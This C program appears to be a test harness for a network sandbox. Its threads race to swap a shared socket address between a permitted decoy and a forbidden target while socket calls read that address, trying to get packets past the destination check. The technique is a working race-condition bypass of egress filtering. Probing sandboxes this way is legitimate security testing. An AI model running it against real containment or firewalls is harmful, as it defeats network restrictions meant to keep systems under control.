/* A program that wants out: racer TIMES PORT ADDRESS DECOY. While some threads call with an address in
 * shared memory, others change it from DECOY, which is this host's, to ADDRESS and back, and shut
 * down, dissolve and connect the same sockets. Says how many calls were made. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <unistd.h>

static struct sockaddr_in away, decoy, none = {.sin_family = AF_UNSPEC};
static volatile struct sockaddr_in shared;
static struct msghdr message;
static atomic_long left, made;
static atomic_int done, stream = -1, datagram = -1;

static void *change(void *unused)
{
    volatile socklen_t *length = &message.msg_namelen;
    while (!done) {
        shared.sin_addr.s_addr = away.sin_addr.s_addr;
        *length = sizeof shared;
        shared.sin_addr.s_addr = decoy.sin_addr.s_addr;
        *length = 0;
    }
    return unused;
}

static void *disturb(void *unused)
{
    while (!done) {
        shutdown(stream, SHUT_RDWR);
        connect(stream, (void *)&shared, sizeof shared);
        connect(datagram, (void *)&none, sizeof none);
        connect(datagram, (void *)&shared, sizeof shared);
    }
    return unused;
}

static int open_one(int type)
{
    struct timeval limit = {.tv_usec = 20000};
    int fd = socket(AF_INET, type, 0);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    return fd;
}

static void *call(void *unused)
{
    struct iovec data = {.iov_base = "x", .iov_len = 1};
    while (atomic_fetch_sub(&left, 1) > 0) {
        int before = atomic_exchange(&stream, open_one(SOCK_STREAM));
        close(before);
        connect(stream, (void *)&shared, sizeof shared);
        before = atomic_exchange(&stream, open_one(SOCK_STREAM));
        close(before);
        sendto(stream, "x", 1, MSG_FASTOPEN, (void *)&shared, sizeof shared);
        before = atomic_exchange(&datagram, open_one(SOCK_DGRAM));
        close(before);
        connect(datagram, (void *)&shared, sizeof shared);
        send(datagram, "x", 1, 0);
        sendto(datagram, "x", 1, 0, (void *)&shared, sizeof shared);
        struct mmsghdr many = {.msg_hdr = {.msg_name = (void *)&shared, .msg_iov = &data,
                                           .msg_namelen = sizeof shared, .msg_iovlen = 1}};
        message.msg_iov = &data;
        message.msg_iovlen = 1;
        message.msg_name = (void *)&shared;
        sendmsg(datagram, &message, 0);
        sendmmsg(datagram, &many, 1, 0);
        made += 7;
    }
    return unused;
}

static struct sockaddr_in address(const char *ip, const char *port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
    inet_pton(AF_INET, ip, &to.sin_addr);
    return to;
}

int main(int argc, char **argv)
{
    pthread_t callers[2], others[2];
    if (argc != 5)
        return 2;
    left = atol(argv[1]) / 7;
    away = address(argv[3], argv[2]);
    decoy = address(argv[4], argv[2]);
    *(struct sockaddr_in *)&shared = decoy;
    /* A number may be that of a stream that was shut down, by the time of its send. */
    signal(SIGPIPE, SIG_IGN);
    pthread_create(&others[0], NULL, change, NULL);
    pthread_create(&others[1], NULL, disturb, NULL);
    for (int n = 0; n < 2; n++)
        pthread_create(&callers[n], NULL, call, NULL);
    for (int n = 0; n < 2; n++)
        pthread_join(callers[n], NULL);
    done = 1;
    for (int n = 0; n < 2; n++)
        pthread_join(others[n], NULL);
    printf("%ld\n", made);
    return 0;
}
